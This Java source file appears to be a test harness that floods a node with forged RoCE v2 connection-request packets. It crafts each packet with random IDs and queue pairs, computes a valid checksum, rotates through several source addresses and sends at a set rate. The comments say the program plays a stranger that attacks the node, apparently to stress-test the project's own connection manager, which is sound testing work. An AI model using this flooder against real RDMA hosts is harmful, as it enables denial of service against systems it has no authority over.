// SPDX-License-Identifier: Apache-2.0
package dev.ffmverbs.ccm;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.StandardProtocolFamily;
import java.net.UnknownHostException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.channels.DatagramChannel;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import java.util.zip.CRC32;

/**
 * A program that plays a stranger. It sends connection requests (REQ) over RoCE version 2 to a node until its standard
 * input ends. Each request has an id and a queue pair that were not used before. Its arguments are the node's address
 * and port, requests per second, seed, and the addresses from which it sends in turn, separated by commas.
 *
 * <p>It shares no code with the node that it attacks.
 */
public final class RequestFlood implements AutoCloseable {

    private static final int ROCE_PORT = 4791;
    private static final int BTH = 0;
    private static final int DETH = 12;
    private static final int MAD = 20;
    private static final int FIELDS = MAD + 24;
    private static final int PRIVATE_DATA = FIELDS + 140;
    private static final int ICRC = MAD + 256;
    private static final int PACKET_BYTES = ICRC + Integer.BYTES;
    private static final int IP_BYTES = 20;
    private static final int UDP_BYTES = 8;
    private static final long NAP_NS = TimeUnit.MICROSECONDS.toNanos(500);

    private final InetSocketAddress target;
    private final SplittableRandom random;
    private final List<DatagramChannel> channels = new ArrayList<>();
    private final List<ByteBuffer> packets = new ArrayList<>();
    private final List<ByteBuffer> headers = new ArrayList<>();
    private long sent;

    RequestFlood(final InetSocketAddress target, final List<InetAddress> sources, final long seed)
        throws IOException {
        this.target = target;
        this.random = new SplittableRandom(seed);
        for (final InetAddress source : sources) {
            final DatagramChannel channel = DatagramChannel.open(StandardProtocolFamily.INET);
            channels.add(channel);
            channel.bind(new InetSocketAddress(source, 0));
            packets.add(request(source));
            headers.add(header(source, ((InetSocketAddress) channel.getLocalAddress()).getPort()));
        }
    }

    /**
     * Runs it.
     *
     * @param arguments see above.
     * @throws IOException when it cannot send from an address.
     */
    public static void main(final String[] arguments) throws IOException {
        final List<InetAddress> sources = new ArrayList<>();
        for (final String source : arguments[3].split(",")) {
            sources.add(InetAddress.ofLiteral(source));
        }
        try (RequestFlood flood = new RequestFlood(
            NodeAddress.parse(arguments[0]), sources, Long.parseLong(arguments[2]))) {
            System.out.println("floods");
            final Thread parent = Thread.currentThread();
            Thread.ofPlatform().daemon().start(() -> {
                awaitEndOfInput();
                parent.interrupt();
            });
            flood.run(Integer.parseInt(arguments[1]));
            System.out.println("sent " + flood.sent);
        }
    }

    private static void awaitEndOfInput() {
        try {
            while (System.in.read() >= 0) {
                Thread.onSpinWait();
            }
        } catch (final IOException e) {
            System.out.println("input ends: " + e.getMessage());
        }
    }

    /** Sends until the thread is interrupted. */
    private void run(final int perSecond) throws IOException {
        final long startNs = System.nanoTime();
        while (!Thread.currentThread().isInterrupted()) {
            final long due = (System.nanoTime() - startNs) / (TimeUnit.SECONDS.toNanos(1) / perSecond);
            while (sent < due && !Thread.currentThread().isInterrupted()) {
                send();
            }
            LockSupport.parkNanos(NAP_NS);
        }
    }

    /** Sends one request. */
    void send() throws IOException {
        final int index = (int) (sent++ % channels.size());
        final ByteBuffer packet = packets.get(index);
        packet.putLong(MAD + 8, random.nextLong());
        packet.putInt(FIELDS, random.nextInt());
        packet.putInt(FIELDS + 32, 2 + random.nextInt(1 << 23) << 8 | 1);
        packet.putInt(FIELDS + 44, random.nextInt() & ~0xFF | 20 << 3 | 7);
        final CRC32 checksum = new CRC32();
        checksum.update(headers.get(index).duplicate());
        checksum.update(packet.slice(BTH, 4));
        checksum.update(0xFF);
        checksum.update(packet.slice(5, ICRC - 5));
        packet.putInt(ICRC, Integer.reverseBytes((int) checksum.getValue()));
        try {
            channels.get(index).send(packet.duplicate(), new InetSocketAddress(target.getAddress(), ROCE_PORT));
        } catch (final java.net.PortUnreachableException e) {
            // The node is being restarted.
        }
    }

    /** What the checksum covers besides the packet, with ones instead of everything that may change in transit. */
    private ByteBuffer header(final InetAddress source, final int sourcePort) {
        final ByteBuffer header = ByteBuffer.allocate(Long.BYTES + IP_BYTES + UDP_BYTES);
        header.putLong(-1L);
        header.put((byte) 0x45).put((byte) 0xFF).putShort((short) (IP_BYTES + UDP_BYTES + PACKET_BYTES));
        header.putShort((short) 0).putShort((short) 0x4000);
        header.put((byte) 0xFF).put((byte) 17).putShort((short) -1);
        header.put(source.getAddress()).put(target.getAddress().getAddress());
        header.putShort((short) sourcePort).putShort((short) ROCE_PORT);
        header.putShort((short) (UDP_BYTES + PACKET_BYTES)).putShort((short) -1);
        return header.flip();
    }

    /** Creates a request whose numbers are not filled in yet. */
    private ByteBuffer request(final InetAddress source) throws UnknownHostException {
        final ByteBuffer packet = ByteBuffer.allocate(PACKET_BYTES).order(ByteOrder.BIG_ENDIAN);
        packet.putInt(BTH, 0x6440_FFFF).putInt(BTH + 4, 1);
        packet.putInt(DETH, 0x8001_0000).putInt(DETH + 4, 1);
        packet.putInt(MAD, 0x0107_0203).putShort(MAD + 16, (short) 0x10);
        packet.putLong(FIELDS + 8, 0x0106_0000L | target.getPort());
        packet.put(FIELDS + 35, (byte) 1).put(FIELDS + 39, (byte) 1);
        packet.put(FIELDS + 43, (byte) (20 << 3));
        packet.putShort(FIELDS + 48, (short) 0xFFFF).put(FIELDS + 50, (byte) (3 << 4 | 7));
        packet.put(FIELDS + 51, (byte) (15 << 4)).putInt(FIELDS + 52, -1);
        packet.putInt(FIELDS + 64, 0xFFFF).put(FIELDS + 68, source.getAddress());
        packet.putInt(FIELDS + 80, 0xFFFF).put(FIELDS + 84, target.getAddress().getAddress());
        packet.put(FIELDS + 93, (byte) 64).put(FIELDS + 95, (byte) (18 << 3));
        packet.put(PRIVATE_DATA + 1, (byte) 0x40).putShort(PRIVATE_DATA + 2, (short) 1234);
        packet.put(PRIVATE_DATA + 16, source.getAddress());
        packet.put(PRIVATE_DATA + 32, target.getAddress().getAddress());
        return packet;
    }

    @Override
    public void close() throws IOException {
        for (final DatagramChannel channel : channels) {
            channel.close();
        }
    }
}
